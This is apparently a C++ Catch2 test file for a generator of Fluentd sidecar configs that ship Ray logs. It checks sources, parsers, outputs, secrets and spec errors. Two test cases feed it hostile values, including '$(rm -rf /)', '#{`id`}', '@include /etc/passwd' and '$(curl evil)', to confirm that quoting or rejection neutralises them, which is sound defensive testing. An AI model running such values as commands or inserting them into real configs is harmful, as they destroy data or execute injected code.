// The Fluentd agent: its config read back (tail, parsing, origin fields, outputs, secrets), the
// value gate with hostile values, and the spec errors that keep Fluent Bit-only settings and
// unsupported outputs out of it.
#include <boost/filesystem.hpp>
#include <catch2/catch.hpp>
#include <fstream>
#include <regex>

#include "agents/fluent_bit/fluent_bit_sidecar_config.h"
#include "agents/fluentd/fluentd_reader.h"
#include "agents/fluentd/fluentd_sidecar_config.h"
#include "agents/fluentd/fluentd_value.h"
#include "agents/outputs/output_backend.h"
#include "agents/fluent_bit/fluent_bit_parsers.h"
#include "ray/ray_log_files.h"
#include "ray/ray_log_formats.h"
#include "lint/linter.h"
#include "pieces/logging_names.h"
#include "render/render.h"
#include "spec/spec_loader.h"
#include "test_helpers.h"
#include "yaml/yaml_emit.h"

using namespace raylog;

namespace {

const char* kEsSpec =
    "spec:\n"
    "  agent: {type: fluentd}\n"
    "  outputs:\n"
    "    - type: elasticsearch\n"
    "      host: es.logging.svc\n"
    "      tls: true\n"
    "      user: elastic\n"
    "      passwordSecret: {name: es-credentials, key: password}\n";

FluentdNode configOf(const Spec& s) { return readFluentdConfig(fluentdSidecarConfig(s).render()); }

const FluentdNode& only(const FluentdNode& n, const std::string& name) {
  auto all = n.childrenNamed(name);
  REQUIRE(all.size() == 1);
  return *all[0];
}

// Every <parse> anywhere in `n` with its @type.
void parseTypes(const FluentdNode& n, const std::string& where, std::vector<std::pair<std::string, std::string>>& out) {
  for (const FluentdNode& c : n.children) {
    if (c.name == "parse") out.emplace_back(where, c.param("@type"));
    parseTypes(c, where.empty() ? c.name : where, out);
  }
}

std::vector<std::string> formatted(const std::vector<Diagnostic>& ds) {
  std::vector<std::string> out;
  for (const Diagnostic& d : ds) out.push_back(d.format());
  return out;
}

}  // namespace

TEST_CASE("fluentd: tail reads the shared volume, keeps offsets there, follows rotated files") {
  const FluentdNode root = configOf(testing::specFrom(kEsSpec));
  const auto sources = root.childrenNamed("source");
  REQUIRE(sources.size() == 2);  // Ray's component logs, and the workers' stdout/stderr
  const FluentdNode& src = *sources[0];
  const FluentdNode& workers = *sources[1];
  CHECK(src.param("path") == "/tmp/ray/session_latest/logs/*, /tmp/ray/session_latest/logs/*/*");
  CHECK(src.param("exclude_path") == "/tmp/ray/session_latest/logs/worker-*.out, /tmp/ray/session_latest/logs/worker-*.err");
  CHECK(workers.param("path") == src.param("exclude_path"));
  CHECK(src.param("pos_file") == "/tmp/ray/fluentd-tail.pos");  // on the emptyDir, survives agent restarts
  CHECK(workers.param("pos_file") == "/tmp/ray/fluentd-tail-workers.pos");
  for (const FluentdNode* s : sources) {
    CHECK(s->param("@type") == "tail");
    CHECK(s->param("tag") == "ray");
    CHECK(s->param("path_key") == "file");
    CHECK(s->param("read_from_head") == "true");
    CHECK(s->param("follow_inodes") == "true");
    CHECK(s->param("refresh_interval") == "5");
  }
}

TEST_CASE("fluentd: text logs are never parsed as JSON, and no parser drops a record") {
  const FluentdNode root = configOf(testing::specFrom(kEsSpec));
  std::vector<std::pair<std::string, std::string>> parses;
  parseTypes(root, "", parses);
  for (const auto& [where, type] : parses) {
    CAPTURE(where);
    CHECK(type != "json");
  }
  // Multi-line records start at a timestamp (in the workers' files also at a traceback); a line
  // before the first one is still emitted.
  const auto sources = root.childrenNamed("source");
  REQUIRE(sources.size() == 2);
  for (const FluentdNode* src : sources) {
    CHECK(src->param("emit_unmatched_lines") == "true");
    CHECK_FALSE(src->param("multiline_flush_interval").empty());  // the last record is not held forever
    CHECK(only(*src, "parse").param("@type") == "multiline");
  }
  CHECK(only(*sources[0], "parse").param("format_firstline") == std::string("/") + kRecordStartRegex + "/");
  CHECK(only(*sources[1], "parse").param("format_firstline") == std::string("/") + kRecordFirstLineRegex + "/");
  // Each parser filter keeps what it cannot parse; those on the file name (ray_log_files.h) keep
  // the record's time too.
  size_t parsers = 0;
  for (const FluentdNode* f : root.childrenNamed("filter")) {
    if (f->param("@type") != "parser") continue;
    if (f->param("key_name") != "log") {
      CHECK(f->param("reserve_data") == "true");
      CHECK(f->param("reserve_time") == "true");
      CHECK(f->param("emit_invalid_record_to_error") == "false");
      continue;
    }
    ++parsers;
    CHECK(f->arg == "ray");
    CHECK(f->param("reserve_data") == "true");
    CHECK(f->param("emit_invalid_record_to_error") == "false");
    CHECK(only(*f, "parse").param("@type") == "regexp");
    CHECK(only(*f, "parse").param("time_format") == "%Y-%m-%d %H:%M:%S,%L");
  }
  CHECK(parsers == 3);  // Ray's Python, C++ and Serve line formats
}

TEST_CASE("fluentd: JSON only when the spec says the logs are JSON, first in filters that keep other lines") {
  std::string yaml = kEsSpec;
  yaml.replace(yaml.find("{type: fluentd}"), 15, "{type: fluentd, logFormat: json}");
  const FluentdNode root = configOf(testing::specFrom(yaml));
  std::vector<std::pair<std::string, std::string>> parses;
  parseTypes(root, "", parses);
  // JSON-or-text: a JSON line is parsed as JSON, any other by Ray's text formats after it.
  std::vector<std::pair<std::string, std::string>> expected = {
      {"source", "multiline"}, {"source", "multiline"}, {"filter", "json"},
      {"filter", "regexp"},    {"filter", "regexp"},    {"filter", "regexp"}};
  // Then the file name and a JSON job_id by regexps (ray_log_files.h).
  for (size_t i = 0; i <= rayLogFilePatterns().size(); ++i) expected.emplace_back("filter", "regexp");
  CHECK(parses == expected);
  for (const FluentdNode* f : root.childrenNamed("filter"))
    if (f->param("@type") == "parser") CHECK(f->param("reserve_data") == "true");
  // Where the user's JSON records and prints mix, every line but a traceback's continuation
  // opens a record, so a print never joins a JSON record.
  const auto sources = root.childrenNamed("source");
  REQUIRE(sources.size() == 2);
  CHECK_THAT(sources[1]->param("path"), Catch::Contains("job-driver-*.log"));
  CHECK_THAT(only(*sources[1], "parse").param("format_firstline"), Catch::StartsWith("/^(?!\\s|$|During handling"));
  CHECK_THAT(only(*sources[0], "parse").param("format_firstline"), Catch::EndsWith("|\\{\\x22)/"));
}

TEST_CASE("fluentd: every record carries its origin from the downward-API environment") {
  const FluentdNode root = configOf(testing::specFrom(kEsSpec));
  const FluentdNode* transformer = nullptr;
  for (const FluentdNode* f : root.childrenNamed("filter"))
    if (f->param("@type") == "record_transformer") transformer = f;
  REQUIRE(transformer);
  CHECK(transformer->arg == "ray");
  const FluentdNode& record = only(*transformer, "record");
  for (const auto& [field, var] : kOriginFields) CHECK(record.param(field) == std::string("#{ENV['") + var + "']}");
  // The variables exist on the agent container.
  const std::string all = renderStream(testing::specFrom(kEsSpec));
  for (const auto& [field, var] : kOriginFields) CHECK_THAT(all, Catch::Contains(std::string("name: ") + var));
}

TEST_CASE("fluentd: elasticsearch output as the EFK guide has it, password only from the environment") {
  const Spec s = testing::specFrom(kEsSpec);
  const FluentdNode root = configOf(s);
  const FluentdNode& match = only(root, "match");
  CHECK(match.arg == "ray");  // receives what tail tags
  CHECK(match.param("@type") == "elasticsearch");
  CHECK(match.param("host") == "es.logging.svc");
  CHECK(match.param("port") == "9200");
  CHECK(match.param("scheme") == "https");
  CHECK(match.param("logstash_format") == "true");
  CHECK(match.param("logstash_prefix") == "ray-logs");
  CHECK(match.param("include_tag_key") == "true");
  CHECK(only(match, "buffer").param("flush_interval") == "5s");
  CHECK(match.param("password") == "#{ENV['RAYLOG_OUT1_PASSWORD']}");
  const std::string conf = fluentdSidecarConfig(s).render();
  CHECK_THAT(conf, !Catch::Contains("es-credentials"));
  CHECK_THAT(renderStream(s), Catch::Contains("secretKeyRef") && Catch::Contains("name: es-credentials"));
}

TEST_CASE("fluentd: several outputs are stores of one copy, so each receives every record") {
  const Spec s = testing::specFrom(
      "spec:\n  agent: {type: fluentd}\n  outputs:\n"
      "    - {type: elasticsearch, host: es, index: ray}\n"
      "    - {type: forward, host: aggregator, tls: true, tlsVerify: false}\n"
      "    - {type: stdout}\n");
  const FluentdNode root = configOf(s);
  const FluentdNode& match = only(root, "match");
  CHECK(match.param("@type") == "copy");
  auto stores = match.childrenNamed("store");
  REQUIRE(stores.size() == 3);
  CHECK(stores[0]->param("@type") == "elasticsearch");
  CHECK(stores[0]->param("index_name") == "ray");
  CHECK(stores[0]->param("logstash_format").empty());
  CHECK(stores[1]->param("@type") == "forward");
  CHECK(stores[1]->param("transport") == "tls");
  CHECK(stores[1]->param("tls_insecure_mode") == "true");
  CHECK(stores[1]->param("ignore_network_errors_at_startup") == "true");  // no crash loop before DNS
  CHECK(only(*stores[1], "server").param("host") == "aggregator");
  CHECK(only(*stores[1], "server").param("port") == "24224");
  CHECK(stores[2]->param("@type") == "stdout");
  CHECK(root.childrenNamed("match").size() == 1);  // nothing else consumes the tag
}

TEST_CASE("fluentd: the sidecar replaces Fluent Bit and runs fluentd on the mounted config") {
  const Spec s = testing::specFrom(kEsSpec);
  const std::vector<YAML::Node> objects = renderObjects(s);
  CHECK(testing::checkInvariantsFor(s, objects) == 1 + s.workerGroups.size());
  const std::string all = emitStream(objects);
  CHECK_THAT(all, Catch::Contains("name: t-fluentd") && Catch::Contains("fluent.conf: |"));
  CHECK_THAT(all, Catch::Contains("- /fluentd/etc/raylog/fluent.conf"));
  CHECK_THAT(all, !Catch::Contains("fluent-bit"));
  CHECK_THAT(all, Catch::Contains("image: fluent/fluentd-kubernetes-daemonset:v1.19.3-debian-elasticsearch8-1.1"));
  CHECK_THAT(all, Catch::Contains("memory: \"512Mi\""));
}

TEST_CASE("fluentd: lint finds nothing in what render produces, in text and JSON mode, with several outputs") {
  for (const char* agent : {"{type: fluentd}", "{type: fluentd, logFormat: json, sidecarMode: native}"}) {
    const std::string yaml = std::string("spec:\n  agent: ") + agent +
                             "\n  outputs:\n    - {type: elasticsearch, host: es}\n    - {type: stdout}\n";
    const std::string text = renderStream(testing::specFrom(yaml));
    namespace fs = boost::filesystem;
    const std::string path = (fs::temp_directory_path() / fs::unique_path("raylog-fluentd-%%%%%%.yaml")).string();
    std::ofstream(path) << text;
    const lint::LintResult result = lint::runLint({path}, {});
    fs::remove(path);
    CAPTURE(agent, text);
    CHECK(result.filesRead == 1);
    CHECK(result.findings.empty());
  }
}

TEST_CASE("fluentd value gate: line breaks and control characters are refused") {
  for (const std::string& v : std::vector<std::string>{"a\nb", "a\rb", std::string("a\0b", 3), "a\x1b[0m", "x\x7f"}) {
    CAPTURE(v);
    CHECK(fluentdValueProblem(v));
    CHECK_THROWS_AS(fluentdQuoted(v), std::logic_error);
    FluentdDirective d{"match", "ray", {}, {}};
    CHECK_THROWS_AS(d.set("host", v), std::logic_error);
  }
}

TEST_CASE("fluentd value gate: hostile values are quoted so they read back unchanged and run nothing") {
  for (const std::string& v : std::vector<std::string>{"plain", "with space", "it's", "back\\slash", "#{`id`}", "\"#{ENV['HOME']}\"",
                              "$(rm -rf /)", "a # not a comment", "]", "</match>", "<source>", " lead", "trail ",
                              "'", "\"", "", "@include /etc/passwd", "${HOME}", "\\'"}) {
    CAPTURE(v);
    REQUIRE_FALSE(fluentdValueProblem(v));
    FluentdConfig c;
    c.add("match", "ray").set("@type", "stdout").set("host", v);
    const std::string text = c.render();
    const FluentdNode root = readFluentdConfig(text);
    REQUIRE(root.children.size() == 1);
    CHECK(root.children[0].param("host") == v);
    CHECK(root.children[0].params.size() == 2);
    const std::string written = c.directives[0].get("host");
    // Never in double quotes (where #{...} runs Ruby); bare only when it is a plain token.
    CHECK(written.front() != '"');
    if (written.front() != '\'') CHECK(std::regex_match(written, std::regex("^[A-Za-z0-9_./:*@+=,%-]+$")));
  }
}

TEST_CASE("fluentd: spec errors say where, for settings and outputs Fluentd does not have") {
  const auto problems = formatted(testing::specProblems(
      "spec:\n"
      "  agent:\n"
      "    type: fluentd\n"
      "    image: fluent/fluent-bit:3.2.10\n"
      "    memBufLimit: 5MB\n"
      "    graceSeconds: 9\n"
      "  outputs:\n"
      "    - {type: elasticsearch, host: es}\n"
      "    - type: loki\n"
      "      host: loki\n"));
  REQUIRE(problems.size() == 4);
  CHECK_THAT(problems[0], Catch::StartsWith("test.yaml:8:12:") && Catch::Contains("Fluent Bit image"));
  CHECK_THAT(problems[1], Catch::StartsWith("test.yaml:9:5:") && Catch::Contains("'memBufLimit' is a Fluent Bit setting"));
  CHECK_THAT(problems[2], Catch::StartsWith("test.yaml:10:5:") && Catch::Contains("'graceSeconds'"));
  CHECK_THAT(problems[3], Catch::StartsWith("test.yaml:13:13:") &&
                              Catch::Contains("output type loki is not available with agent type fluentd") &&
                              Catch::Contains("elasticsearch, forward"));
}

TEST_CASE("fluentd: a Fluentd image under agent type fluent-bit is an error, and daemonset stays Fluent Bit") {
  auto problems = formatted(testing::specProblems(
      "spec:\n  agent:\n    image: fluent/fluentd:v1.19.3-debian-1.0\n  output: {type: stdout}\n"));
  REQUIRE(problems.size() == 1);
  CHECK_THAT(problems[0], Catch::StartsWith("test.yaml:7:12:") && Catch::Contains("set agent.type: fluentd"));
  problems = formatted(testing::specProblems("spec:\n  strategy: daemonset\n  agent: {type: fluentd}\n  output: {type: stdout}\n"));
  REQUIRE(problems.size() == 1);
  CHECK_THAT(problems[0], Catch::Contains("strategy daemonset runs the fluent-bit agent"));
}

TEST_CASE("fluentd: hostile values in the spec stop at a located error") {
  for (const char* value : {"\"es\\nhost\"", "\"$(curl evil)\"", "\"es'; x\"", "\"]\"", "\"#{`id`}\""}) {
    CAPTURE(value);
    const auto problems = formatted(testing::specProblems(
        std::string("spec:\n  agent: {type: fluentd}\n  outputs:\n    - type: elasticsearch\n      host: ") + value + "\n"));
    REQUIRE(problems.size() == 1);
    CHECK_THAT(problems[0], Catch::StartsWith("test.yaml:9:13:"));
  }
}

TEST_CASE("fluentd reader: unclosed and mismatched blocks are errors with their line") {
  CHECK_THROWS_AS(readFluentdConfig("<source>\n  @type tail\n"), FluentdReadError);
  try {
    readFluentdConfig("<match ray>\n  @type stdout\n</source>\n");
    FAIL("no error");
  } catch (const FluentdReadError& e) {
    CHECK(e.line == 3);
  }
  CHECK_THROWS_AS(readFluentdConfig("<match ray>\n  host 'open\n</match>\n"), FluentdReadError);
  const FluentdNode n = readFluentdConfig("# c\n<match ray> \n  host es # comment\n  @include x.conf\n</match>\n");
  CHECK(n.children.at(0).param("host") == "es");
  CHECK(n.children.at(0).param("@include") == "x.conf");
}
